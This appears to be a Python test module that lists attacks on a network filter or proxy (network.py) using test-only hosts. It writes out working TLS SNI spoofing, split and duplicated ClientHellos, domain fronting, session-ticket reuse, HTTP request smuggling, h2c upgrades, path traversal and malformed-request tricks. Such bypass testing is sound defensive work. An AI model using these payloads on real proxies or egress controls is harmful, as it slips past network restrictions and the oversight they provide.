"""Attacks of network.py within connections that may be: another name in TLS, in a
request, in what need not be one."""
import socket
import ssl
import struct
import time

from hellos import OpenSSL, hello, sni
from network_base import AGAIN, ODD, RAW, attack, attacks, get, named, tls


# -- names within --------------------------------------------------------------

def raw(make):
    def one(mark):
        s = named("good.test", RAW)
        for part in make(mark):
            s.sendall(part)
        # To close now would take back what the other side has not read yet.
        s.shutdown(socket.SHUT_WR)
        got = b""
        while more := s.recv(100):
            got += more
        return got
    return one


for name, make in {
    "sni-of-another": lambda m: [hello(sni(b"evil.test"), m)],
    "sni-with-a-nul": lambda m: [hello(sni(b"evil.test\0.good.test"), m)],
    "sni-with-a-suffix": lambda m: [hello(sni(b"good.test.evil.test"), m)],
    "two-sni": lambda m: [hello(sni(b"good.test", b"evil.test"), m)],
    "two-sni-extensions": lambda m: [hello(sni(b"good.test") + sni(b"evil.test"), m)],
    "sni-of-no-bytes": lambda m: [hello(sni(b""), m)],
    "sni-left-out": lambda m: [hello(b"", m)],
    "sni-encrypted": lambda m: [hello(sni(b"good.test") + b"\xfe\x0d\0\4abcd", m)],
    "sni-in-a-second-record": lambda m: [
        hello(sni(b"evil.test"), m)[:3] + b"\0\5" + hello(sni(b"evil.test"), m)[5:10],
        b"\x16\x03\x01" + struct.pack(">H", len(hello(sni(b"evil.test"), m)) - 10) +
        hello(sni(b"evil.test"), m)[10:]],
    "sni-byte-by-byte": lambda m: [
        bytes([x]) for x in hello(sni(b"evil.test"), m)],
    "alert-before-the-hello": lambda m: [b"\x15\x03\x01\0\2\1\0",
                                         hello(sni(b"evil.test"), m)],
    "sslv2-hello": lambda m: [b"\x80\x2e\1\3\1\0\3\0\0\0\x20\0\0\x2f" + m],
    "no-tls-at-all": lambda m: [b"\0\1\2\3" + m],
    "http-on-a-port-of-tls": lambda m: [
        b"GET /" + m + b" HTTP/1.1\r\nHost: evil.test\r\n\r\n"],
}.items():
    attacks[name] = raw(make)


@attack
def sni_of_another_when_asked_again(mark):
    """A server that takes the first hello for nothing asks for a second one."""
    client = OpenSSL(named("good.test", AGAIN))
    client.connect(b"good.test", b"good.test")
    client.get("good.test", "/again")
    client = OpenSSL(named("good.test", AGAIN))
    client.connect(b"good.test", b"other.test")
    return client.get("other.test", "/" + mark.decode())


@attack
def another_host_behind_what_may_be_an_encrypted_name(mark):
    """Where requests are looked into it goes no further, and clients of all kinds send it."""
    client = OpenSSL(named("seen.wild.test", 443), (0xfe0d, b"\0\0\1\0\1\0\0\0\0\1x"))
    client.connect(b"seen.wild.test")
    client.get("seen.wild.test", "/greased")
    return client.get("other.test", "/" + mark.decode())


@attack
def two_hellos_in_one_record(mark):
    first, second = hello(sni(b"good.test"), b"")[5:], hello(sni(b"evil.test"), mark)[5:]
    s = named("good.test", RAW)
    s.sendall(b"\x16\x03\x01" + struct.pack(">H", len(first) + len(second)) + first + second)
    s.shutdown(socket.SHUT_WR)
    return s.recv(100)


@attack
def real_tls_to_a_neighbour(mark):
    s = tls(named("good.test", 443), "other.test")
    return get(s, "other.test", "/" + mark.decode())


@attack
def ticket_of_another_name(mark):
    """A session of TLS that was begun under a name that is allowed, and what came of
    one that is not looked into, where one is."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    def again(host, name, session=None):
        return context.wrap_socket(named(host, 443), server_hostname=name, session=session)

    s = again("good.test", "good.test")
    get(s, "good.test", "/ticket")
    said = []
    for host, name in (("good.test", "other.test"), ("seen.wild.test", "seen.wild.test")):
        try:
            said.append(get(again(host, name, s.session), "other.test", "/" + mark.decode()))
        except OSError as error:
            said.append(str(error))
    return said


@attack
def fronting(mark):
    """TLS to one name, the request to another, on a host that is looked into."""
    s = tls(named("seen.wild.test", 443), "seen.wild.test")
    return get(s, "other.test", "/" + mark.decode())


@attack
def fronting_in_the_second_request(mark):
    s = tls(named("seen.wild.test", 443), "seen.wild.test")
    get(s, "seen.wild.test", "/first")
    return get(s, "other.test", "/" + mark.decode())


@attack
def fronting_by_an_absolute_form(mark):
    s = tls(named("seen.wild.test", 443), "seen.wild.test")
    return get(s, "seen.wild.test", "http://other.test/" + mark.decode())


@attack
def connect_within_tls(mark):
    s = tls(named("seen.wild.test", 443), "seen.wild.test")
    s.sendall(b"CONNECT other.test:443 HTTP/1.1\r\nHost: other.test\r\nX-Mark: " +
              mark + b"\r\n\r\n")
    return s.recv(100)


@attack
def body_before_another_protocol_within_tls(mark):
    s = tls(named("seen.wild.test", 443), "seen.wild.test")
    return get(s, "seen.wild.test", "/" + mark.decode(),
               "Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: 4\r\n\r\nbody")


@attack
def path_that_is_denied(mark):
    s = tls(named("seen.wild.test", 443), "seen.wild.test")
    return get(s, "seen.wild.test", "/x/%2e%2e/secret/" + mark.decode())


@attack
def path_with_parameters(mark):
    """Java's servers read it without them."""
    s = tls(named("seen.wild.test", 443), "seen.wild.test")
    return get(s, "seen.wild.test", "/secret;x/" + mark.decode())


def plain(request):
    def one(mark):
        s = named("good.test", 80)
        s.sendall(request.replace(b"MARK", mark))
        if b"chunked" in request or b"\r" not in request:
            s.shutdown(socket.SHUT_WR)  # there is no answer to wait for
        return s.recv(1000)
    return one


for name, request in {
    "host-of-another": b"GET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n",
    "two-hosts": b"GET /MARK HTTP/1.1\r\nHost: good.test\r\nHost: other.test\r\n\r\n",
    "host-folded": b"GET /MARK HTTP/1.1\r\nHost: good.test\r\n X: y\r\nX: other.test\r\n\r\n",
    "host-with-a-nul": b"GET /MARK HTTP/1.1\r\nHost: other.test\0.good.test\r\n\r\n",
    "no-host": b"GET /MARK HTTP/1.0\r\n\r\n",
    "absolute-form": b"GET http://other.test/MARK HTTP/1.1\r\nHost: good.test\r\n\r\n",
    "connect": b"CONNECT MARK.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n",
    "smuggled-by-lengths": b"POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length: 30\r\n"
                           b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
                           b"GET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n",
    "smuggled-by-a-space": b"POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length : 0\r\n\r\n"
                           b"GET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n",
    "bare-line-feeds": b"GET /MARK HTTP/1.1\nHost: good.test\n\n",
    "http2-in-the-clear": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nMARK",
    "upgrade-to-http2": b"GET /MARK HTTP/1.1\r\nHost: good.test\r\nUpgrade: h2c\r\n"
                        b"Connection: Upgrade\r\n\r\n",
    "upgrade-to-http2-or-else": b"GET /MARK HTTP/1.1\r\nHost: good.test\r\nUpgrade: websocket, h2c\r\n"
                                b"Connection: Upgrade\r\n\r\n",
    "upgrade-to-http-in-tls": b"GET /MARK HTTP/1.1\r\nHost: good.test\r\nUpgrade: TLS/1.2, HTTP/1.1\r\n"
                              b"Connection: Upgrade\r\n\r\n",
    "body-before-another-protocol": b"POST /MARK HTTP/1.1\r\nHost: good.test\r\nUpgrade: websocket\r\n"
                                    b"Connection: Upgrade\r\nContent-Length: 4\r\n\r\nbody",
    "pipelined": b"GET /fine HTTP/1.1\r\nHost: good.test\r\n\r\n"
                 b"GET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n",
}.items():
    attacks[name] = plain(request)


@attack
def words_of_an_answer_that_look_like_another(mark):
    """An earlier answer says that the far end speaks another protocol now."""
    s = named("good.test", 80)
    s.sendall(b"GET /said/ HTTP/1.1\r\nHost: good.test\r\n\r\n")
    while b"\r\n\r\n" not in s.recv(1000):
        pass
    s.sendall(b"GET /no HTTP/1.1\r\nHost: good.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
    got = s.recv(1000)
    return got, get(s, "other.test", "/" + mark.decode())


def odd_port(request):
    """Where there need be no HTTP, but is."""
    def one(mark):
        s = named("good.test", ODD)
        for part in request:
            s.sendall(part.replace(b"MARK", mark))
            time.sleep(0.05)
        return s.recv(1000)
    return one


for name, request in {
    "an-empty-line-before": [b"\r\nGET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-line-feed-before": [b"\n", b"GET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-small-method": [b"get /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-method-in-pieces": [b"GE", b"T /MARK HT", b"TP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-small-method-in-pieces": [b"g", b"et", b" / HT",
                                 b"TP/1.1\r\nHost: MARK.other.test\r\n\r\n"],
    "a-small-method-and-a-host-in-pieces": [b"get /MARK HTTP/1", b".1\r\nHo",
                                            b"st: other.test\r\n\r\n"],
    "a-small-method-after-a-long-one": [b"g" * 20000, b" /MARK HTTP/1.1\r\n",
                                        b"Host: other.test\r\n\r\n"],
    "a-small-version": [b"get /MARK http/1.1\r\nHost: other.test\r\n\r\n"],
    "an-odd-method": [b"M-SEARCH /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-long-method": [b"A" * 40 + b" /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-method-and-a-tab": [b"GET\t/MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-blank-before": [b" GET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-blank-before-in-pieces": [b"\t", b"GE", b"T / HT", b"TP/1.1\r\nHost: MARK.other.test\r\n\r\n"],
    "a-separator-of-python": [b"GET\x1f/MARK\xa0HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "one-before": [b"\xa0GET /MARK HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "returns-for-blanks": [b"GET\r/MARK\rHTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-control-character-in-the-path": [b"GET\t/MARK\1 HTTP/1.1\r\nHost: other.test\r\n\r\n"],
    "a-proxy's-request-in-small-letters-without-a-version": [b"get http://other.test/MARK\r\n"],
    "that-in-pieces": [b"get ht", b"tp:/", b"/MARK.other.test/\n"],
    "a-proxy's-tunnel-in-small-letters-without-a-version": [b"connect MARK.other.test:443\r\n"],
}.items():
    attacks[name] = odd_port(request)


@attack
def another_host_after_a_beginning_in_pieces(mark):
    s = named("good.test", ODD)
    for part in b"g", b"et /small HT", b"TP/1.1\r\nHost: go", b"od.test\r\n\r\n":
        s.sendall(part)
        time.sleep(0.05)
    got = s.recv(1000)
    return got, get(s, "other.test", "/" + mark.decode())
